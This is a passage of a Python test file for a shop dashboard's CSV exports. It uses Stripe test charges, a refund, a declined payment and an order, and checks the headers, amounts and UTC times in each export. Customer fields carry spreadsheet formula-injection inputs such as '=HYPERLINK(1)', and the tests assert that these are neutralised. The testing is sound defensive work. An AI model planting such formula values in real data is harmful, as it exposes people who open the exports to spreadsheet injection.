    charge = api.v1.charges.create(
        params={
            "amount": 2300,
            "currency": "usd",
            "source": "tok_visa",
            "shipping": shipping,
            "receipt_email": FORMULA_EMAIL,
        }
    )
    refund = api.v1.refunds.create(params={"charge": charge.id, "amount": 500})
    with pytest.raises(stripe.CardError):
        api.v1.charges.create(
            params={"amount": 4600, "currency": "usd", "source": "tok_chargeDeclined", "shipping": shipping}
        )
    order = orders.create_order(replace(CUSTOMER, name=FORMULA), catalog.priced_line(HAMMING, 1))
    sync.sync(api, full=True)
    for page, key in (("charges", None), ("failures", "failures_period"), ("refunds", None), ("orders", None)):
        at = open_page(page)
        if key:
            at.selectbox(key=key).select("All time").run()
        assert not at.exception, at.exception

    by_prefix = {re.split(r"[-.]", name)[0]: name for name in downloads.names()}
    assert set(by_prefix) >= {"charges", "failed", "refunds", "orders"}, downloads.names()
    expected = {  # header, the row's id, its amount, a cell a customer typed
        "charges": (
            ["id", "created_utc", "display_status", "amount", "amount_captured", "amount_refunded"],
            charge.id,
            "23.00",
            FORMULA,
        ),
        "failed": (["Time", "Customer", "Email", "Book", "Amount"], None, "46.00", FORMULA),
        "refunds": (["Created", "Refund", "Amount", "Reason", "Status", "Charge"], refund.id, "5.00", FORMULA_EMAIL),
        "orders": (["Created", "Order", "Status", "Customer", "Email", "Book"], order.id, "23.00", FORMULA),
    }
    for prefix, (header, row_id, amount, typed) in expected.items():
        header_row, *rows = downloads.rows(by_prefix[prefix])
        assert header_row[: len(header)] == header, (prefix, header_row)
        (row,) = [row for row in rows if row_id is None or row_id in row]
        assert amount in row, (prefix, row)
        assert "'" + typed in row, (prefix, row)  # neutralised: a spreadsheet shows it as text
        assert not any(cell.startswith(("=", "+", "@")) for cells in rows for cell in cells), prefix


def test_a_table_csv_writes_money_with_two_places_times_in_utc_and_neutralises_formulas():
    from datetime import UTC, datetime

    import pandas as pd

    from ui.formats import MONEY_COLUMN, TIME_COLUMN, csv_frame

    frame = pd.DataFrame(
        {
            "Created": [pd.Timestamp(datetime(2026, 12, 2, 5, 40, tzinfo=UTC))],
            "Amount": [23.0],
            "Email": ["=HYPERLINK(1)"],
        }
    )
    out = csv_frame(frame, {"Created": TIME_COLUMN, "Amount": MONEY_COLUMN})
    assert out.to_dict("records") == [{"Created": "2026-12-02T05:40:00Z", "Amount": "23.00", "Email": "=HYPERLINK(1)"}]
    from shop import export

    assert export.csv_bytes(out).decode().splitlines()[1] == "2026-12-02T05:40:00Z,23.00,'=HYPERLINK(1)"
